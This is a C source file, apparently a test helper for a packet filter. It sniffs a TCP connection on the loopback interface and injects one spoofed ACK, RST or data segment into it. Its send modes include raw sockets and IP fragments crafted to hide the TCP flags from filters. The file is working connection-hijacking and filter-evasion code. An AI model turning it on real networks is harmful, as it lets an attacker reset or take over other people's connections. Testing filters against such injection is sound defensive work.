/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * hijack: one packet with the right numbers in somebody else's connection on lo, which it has read
 * there. CLIENT-PORT says which; the connection must have something to say.
 *
 *   hijack raw|lo|pieces|mixed client|server CLIENT-PORT ack|rst|TEXT
 *
 * By a raw socket, by a frame on lo, by a raw socket in fragments that hide the flags, or by a first
 * fragment on lo and a second one by a raw socket (IPv4), in the client's or the server's name. Prints "believed" when
 * the other side acknowledged TEXT, else "sent"; "refused" (exit 10) when output did not let it go.
 */
#include "packet.h"

struct numbers {
	struct segment client, server; /* what each would say next */
};

static bool follow(struct numbers *numbers, uint16_t port, const struct seen *seen)
{
	bool client = endpoint_port(&seen->from) == port;
	struct segment *from = client ? &numbers->client : &numbers->server;
	struct segment *to = client ? &numbers->server : &numbers->client;

	if (!client && endpoint_port(&seen->to) != port)
		return false;
	from->from = to->to = seen->from;
	from->to = to->from = seen->to;
	from->seq = to->ack = ntohl(seen->tcp.th_seq) + (uint32_t)seen->data_n;
	from->ack = to->seq = ntohl(seen->tcp.th_ack);
	return seen->data_n > 0;
}

/* Until the first words and what follows them at once. */
static void learn(int sniffer, uint16_t port, struct numbers *ret_numbers)
{
	int64_t deadline = now_ms() + 2000;
	struct seen seen;
	bool spoke = false;

	while (sniff_tcp(sniffer, deadline, &seen)) {
		if (!follow(ret_numbers, port, &seen) || spoke)
			continue;
		spoke = true;
		deadline = now_ms() + 60;
	}
	if (!spoke)
		die(EXIT_BROKEN, "port %u says nothing on lo", port);
}

/* Exactly TEXT more than before: what the real side says is of another length. */
static bool believed(int sniffer, const struct segment *segment)
{
	int64_t deadline = now_ms() + 400;
	struct seen seen;

	while (sniff_tcp(sniffer, deadline, &seen))
		if (same_end(&seen.from, &segment->to) && same_end(&seen.to, &segment->from) &&
		    !(seen.tcp.th_flags & TH_RST) &&
		    ntohl(seen.tcp.th_ack) == segment->seq + (uint32_t)segment->data_n)
			return true;
	return false;
}

static void say(struct segment *segment, const char *what)
{
	segment->flags = TH_ACK;
	if (!strcmp(what, "rst")) {
		segment->flags |= TH_RST;
	} else if (strcmp(what, "ack") != 0) {
		segment->flags |= TH_PUSH;
		segment->data = what;
		segment->data_n = strlen(what);
	}
}

static bool put(const char *how, const struct segment *segment)
{
	if (!strcmp(how, "lo")) {
		lo_send(packet_socket("lo", SOCK_RAW), segment);
		return true;
	}
	if (!strcmp(how, "pieces"))
		return pieces_send(segment, -1);
	if (!strcmp(how, "mixed"))
		return pieces_send(segment, packet_socket("lo", SOCK_RAW));
	return raw_send(raw_socket(segment->to.sa.sa_family), segment);
}

int main(int argc, char **argv)
{
	struct numbers numbers = { 0 };
	struct segment *segment;
	int sniffer;

	if (argc != 5)
		die(EXIT_USAGE, "usage: hijack raw|lo|pieces|mixed client|server CLIENT-PORT "
				"ack|rst|TEXT");
	sniffer = packet_socket("lo", SOCK_DGRAM);
	learn(sniffer, (uint16_t)parse_number(argv[3], 1, 65535), &numbers);
	segment = !strcmp(argv[2], "client") ? &numbers.client : &numbers.server;
	say(segment, argv[4]);
	if (!put(argv[1], segment)) {
		puts("refused");
		return 10;
	}
	puts(segment->data_n && believed(sniffer, segment) ? "believed" : "sent");
	return 0;
}
